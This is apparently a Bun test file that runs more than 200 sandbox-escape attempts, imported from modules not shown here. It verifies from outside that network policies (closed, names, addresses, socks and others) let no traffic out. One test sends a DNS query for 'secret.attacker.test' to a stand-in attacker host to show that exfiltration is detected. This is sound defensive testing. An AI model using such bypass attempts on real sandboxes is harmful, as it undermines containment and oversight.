import { afterAll, beforeAll, expect, test } from 'bun:test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { coversName } from '../../src/protocol/network.ts';
import { policies, type Attempt } from './bypass/attempt.ts';
import { host } from './bypass/host.ts';
import { http } from './bypass/http.ts';
import { names } from './bypass/names.ts';
import { packets } from './bypass/packets.ts';
import { tls } from './bypass/tls.ts';
import { startLab, type Lab, type Visit } from './support/lab.ts';

// Attempts to get around a policy, made by root inside of a sandbox. Whether one succeeds is seen from outside: packets that
// arrive on the internet, what its servers and the host's were asked for, what another sandbox got.

const prelude = readFileSync(join(import.meta.dir, 'bypass/prelude.py'), 'utf8');
const table = [...packets, ...http, ...tls, ...names, ...host];
const allowedNames = ['allowed.test', '*.wild.test'];

let lab: Lab;
let neighbour: string;
const sandboxes = new Map<Attempt['policy'], string>();
let watched: Attempt['policy'] | undefined;

beforeAll(async () => {
  lab = await startLab();
  neighbour = await lab.create({ internetAccess: true });
  await lab.python(neighbour, `
import os, socket, threading
if os.fork(): os._exit(0)
os.setsid()
os.dup2(os.open('/dev/null', os.O_RDWR), 1); os.dup2(1, 2)
def note(text): open('/tmp/visited', 'a').write(text + '\\n')
def datagrams():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 7000))
    while True: note(f'datagram {s.recvfrom(100)}')
threading.Thread(target=datagrams).start()
l = socket.socket(); l.bind(('0.0.0.0', 7000)); l.listen()
while True: note(f'connection {l.accept()[1]}')
`);
}, 120_000);
afterAll(() => lab.dispose(), 120_000);

test('the table has what it must: 100 attempts and more, of every kind', () => {
  expect(table.length).toBeGreaterThan(200);
  expect(new Set(table.map(({ policy, name }) => `${policy}: ${name}`)).size).toBe(table.length);
  for (const policy of Object.keys(policies)) expect(table.filter(attempt => attempt.policy === policy).length).toBeGreaterThan(4);
});

test('what an open policy lets through is seen: the attempts are able, and the watch is awake', async () => {
  const able = ['another address, another port', 'UDP to another address', 'ping another address', 'GRE', 'fragments of a datagram', 'a SYN with data'];
  const sandbox = await lab.create({ internetAccess: true });
  const tried = packets.filter(({ name }) => able.includes(name.replace('packets: ', '')));
  expect(tried.length).toBe(able.length);
  for (const attempt of tried) {
    lab.watch([]);
    expect((await attemptIn(sandbox, attempt.program)).exitCode).toBe(0);
    expect(`${attempt.name}: ${(await lab.strays()) > 0}`).toBe(`${attempt.name}: true`);
  }
  await attemptIn(sandbox, "get(OTHER, 'other.test'); ask(ATTACKER, 'secret.attacker.test')");
  expect((await lab.visits()).filter(({ service }) => /http other|dns/.test(service)).map(({ detail }) => detail)).toEqual(['other.test GET /', 'secret.attacker.test 1']);
  await lab.kill(sandbox);
}, 60_000);

for (const attempt of table) {
  test(`${attempt.policy}, ${attempt.name}`, async () => {
    const sandbox = await sandboxUnder(attempt.policy);
    const before = await lab.strays();
    const { exitCode, stdout, stderr } = await attemptIn(sandbox, attempt.program);
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
    expect(stdout).not.toMatch(/page of (other|attacker|anycast|victim|socks|publicResolver)|hello from|service of the host/);
    expect(await lab.strays()).toBe(before);
    expect((await lab.visits()).filter(visit => !isPermitted(attempt.policy, visit))).toEqual([]);
    expect(await lab.intrusions()).toEqual([]);
  }, 30_000);
}

test('the other sandbox was not reached by any of them', async () => {
  expect(await attemptIn(neighbour, "tcp('127.0.0.1', 7000)")).toMatchObject({ exitCode: 0 });
  expect((await lab.run(neighbour, 'cat /tmp/visited')).stdout).toMatch(/^connection \('127\.0\.0\.1', \d+\)\n$/);
});

async function sandboxUnder(policy: Attempt['policy']): Promise<string> {
  const sandbox = sandboxes.get(policy) ?? (await lab.create(policies[policy].policy));
  sandboxes.set(policy, sandbox);
  if (watched !== policy) lab.watch(policies[policy].permitted);
  watched = policy;
  await lab.visits();
  return sandbox;
}

/** What the network does to an attempt ends it in order; a mistake in its program does not. */
function attemptIn(sandbox: string, program: string) {
  const wrapped = `
program = bytes.fromhex('${Buffer.from(program).toString('hex')}').decode()
try: exec(program)
except (OSError, subprocess.SubprocessError) as error: print('ended by', type(error).__name__, error)
`;
  return lab.python(sandbox, `INSTALLATION = ${lab.installation}\n${prelude}${wrapped}`);
}

function isPermitted(policy: Attempt['policy'], { service, from, detail }: Visit): boolean {
  if (service.includes('victim')) return false;
  const isDns = service.startsWith('dns');
  switch (policy) {
    case 'names': {
      const [name = ''] = detail.split(' ');
      const isNamed = allowedNames.some(pattern => coversName(pattern, name.toLowerCase().replace(/\.$/, '')));
      if (isDns) return service === 'dns 8.8.8.8' && isNamed && !detail.endsWith('and more');
      return /^https? (allowed|wild)$/.test(service) && isNamed && !detail.includes('smuggled');
    }
    case 'closed':
      return false;
    case 'addresses':
      return service.endsWith(' allowed');
    case 'socks':
      return isDns ? service === 'dns 8.8.8.8' : service === 'socks' || from !== '192.0.2.2';
    case 'open':
    case 'headers':
      return true;
  }
}
